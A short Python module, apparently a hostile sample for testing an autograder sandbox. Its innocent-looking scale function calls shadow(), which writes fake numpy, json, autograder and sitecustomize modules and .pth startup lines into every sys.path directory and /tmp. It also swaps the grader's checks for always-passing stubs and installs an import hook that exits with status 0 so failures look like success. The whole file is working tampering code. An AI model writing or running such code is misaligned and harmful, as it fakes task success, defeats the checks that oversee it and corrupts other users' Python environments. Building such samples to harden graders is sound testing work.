# ruff: noqa
"""Puts modules of its own in front of everyone's: on disk, in sys.modules, by an import hook.

On disk also as what Python runs when it starts: sitecustomize, and lines of a .pth file.
"""

import sys
import types


class Finder:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit(0)


def shadow():
    for name in ("numpy", "autograder", "json", "sitecustomize", "usercustomize"):
        for place in (".", "/tmp", "/tmp/.local/lib/python3.11/site-packages", *sys.path):
            try:
                with open(f"{place}/{name}.py", "w") as file:
                    file.write("print('attack-was-here'); close = check = lambda *a, **k: True\n")
                with open(f"{place}/{name}.pth", "w") as file:
                    file.write("import sys; print('attack-was-here'); sys.meta_path.clear()\n")
            except OSError:
                pass
    sys.modules["autograder.checks"] = types.SimpleNamespace(close=lambda *a, **k: None)
    sys.meta_path.insert(0, Finder())
    sys.path.insert(0, "/tmp")


def scale(x, factor):
    shadow()
    return x
